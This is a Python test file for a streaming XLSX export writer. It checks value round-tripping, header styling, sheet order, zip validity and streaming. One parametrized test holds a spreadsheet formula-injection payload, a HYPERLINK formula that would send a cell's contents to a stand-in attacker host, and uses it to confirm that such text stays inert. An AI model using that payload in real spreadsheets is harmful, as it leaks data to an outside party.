"""The streaming SpreadsheetML writer behind the XLSX exports (QA8 SS-1, SS-2): what it writes reads back
in openpyxl (whole-workbook mode, no warnings) as the values, styles and layout the exports always had."""

from __future__ import annotations

import datetime
import io
import warnings
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from registry.exports.xlsx_stream import WorkbookStream, column_letter, sheet_title


def read(body: bytes) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return load_workbook(io.BytesIO(body))


def written(rows: list[list[Any]], headers: list[tuple[str, float]] | None = None) -> bytes:
    book = WorkbookStream()
    sheet = book.declare("户", headers or [("甲", 15), ("乙", 24)])
    body = book.take()
    book.write_rows(sheet, rows)
    return body + book.take() + book.finish()


def test_values_read_back_as_written() -> None:
    row = [
        "王德贵",
        3,
        Decimal("4000.00"),
        Decimal("62.50"),
        1.25,
        datetime.date(1970, 1, 1),
        datetime.datetime(2020, 1, 2, 10, 30),
        True,
        None,
        "",
        "52011320010109345X",
        "6228480012345678",
    ]
    sheet = read(written([row]))["户"]
    values = [cell.value for cell in sheet[2]]
    assert values == [
        "王德贵",
        3,
        4000,
        62.5,
        1.25,
        datetime.datetime(1970, 1, 1),
        datetime.datetime(2020, 1, 2, 10, 30),
        True,
        None,
        None,
        "52011320010109345X",
        "6228480012345678",
    ]
    assert [cell.data_type for cell in sheet[2]][10:] == ["s", "s"]  # IDs and accounts are text
    assert sheet["F2"].number_format == "yyyy-mm-dd"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A2,"点击")',
        "+三组",
        "-1",
        "@x",
        "=1+1",
        " 前后空格 ",
        "a\r\nb",
        "<&>\"'",
    ],
)
def test_text_is_always_text_never_a_formula(text: str) -> None:
    body = written([[text]])
    cell = read(body)["户"]["A2"]
    assert (cell.value, cell.data_type) == (text, "s")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_characters_xml_cannot_carry_are_replaced_not_fatal() -> None:
    assert read(written([["a\x01b\x1fc"]]))["户"]["A2"].value == "a\ufffdb\ufffdc"


def test_a_date_before_march_1900_stays_a_date_as_text() -> None:
    """Excel's serials count a 29 February 1900 that never was: such a date is written as its ISO text."""
    assert read(written([[datetime.date(1899, 12, 31)]]))["户"]["A2"].value == "1899-12-31"
    assert read(written([[datetime.date(1900, 3, 1)]]))["户"]["A2"].value == datetime.datetime(1900, 3, 1)


def test_header_row_is_bold_filled_frozen_with_the_widths() -> None:
    sheet = read(written([["x", "y"]]))["户"]
    assert sheet.freeze_panes == "A2"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (15, 24)
    header = sheet["A1"]
    assert header.value == "甲" and header.font.b and header.fill.fgColor.rgb.endswith("DDEBF7")
    assert header.fill.fill_type == "solid" and header.alignment.wrap_text
    assert not sheet["A2"].font.b


def test_sheets_keep_their_declared_order_whatever_order_they_are_written_in() -> None:
    book = WorkbookStream()
    first = book.declare("汇总", [("a", 8)])
    second = book.declare("成员", [("b", 8)])
    book.declare("空村", [("c", 8)])  # never written: header only
    book.write_rows(second, [["member"]])
    book.write_rows(first, [["summary"]])
    workbook = read(book.finish())
    assert workbook.sheetnames == ["汇总", "成员", "空村"]
    assert workbook["汇总"]["A2"].value == "summary" and workbook["成员"]["A2"].value == "member"
    assert workbook["空村"].max_row == 1 and workbook["空村"]["A1"].value == "c"


def test_a_sheet_is_written_in_one_run() -> None:
    book = WorkbookStream()
    first, second = book.declare("a", [("a", 8)]), book.declare("b", [("b", 8)])
    book.write_rows(first, [[1]])
    book.write_rows(second, [[2]])
    with pytest.raises(ValueError, match="already written"):
        book.write_rows(first, [[3]])


def test_bytes_flow_while_rows_are_written() -> None:
    book = WorkbookStream()
    sheet = book.declare("户", [("a", 8)])
    book.write_rows(sheet, ())
    assert book.take().startswith(b"PK\x03\x04")  # the entry's header leaves before any row
    sizes = []
    for page in range(20):
        book.write_rows(sheet, ([f"第{page}页第{n}行", n, f"{n * 7919 % 10007:05d}"] for n in range(2000)))
        sizes.append(len(book.take()))
    assert all(sizes)  # every page of rows hands bytes on, memory holds no more than a page
    assert b"PK\x05\x06" in book.finish()  # the central directory ends the stream


def test_stream_has_no_zip64_fields_and_is_a_valid_zip() -> None:
    body = written([["x", 1]] * 100)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert archive.testzip() is None
        assert all(info.extra == b"" and info.flag_bits & 0x08 for info in archive.infolist())
        assert archive.namelist()[0] == "xl/worksheets/sheet1.xml"


def test_sheet_titles_follow_excels_rules() -> None:
    taken = {"汇总"}
    assert sheet_title("汇总", taken) == "汇总(2)"
    assert sheet_title("a/b:c*d?[e]\\", set()) == "a_b_c_d__e__"
    assert len(sheet_title("村" * 40, set())) == 31
    assert column_letter(1) == "A" and column_letter(26) == "Z" and column_letter(27) == "AA"


def test_an_unknown_value_type_is_refused() -> None:
    with pytest.raises(TypeError):
        written([[object()]])
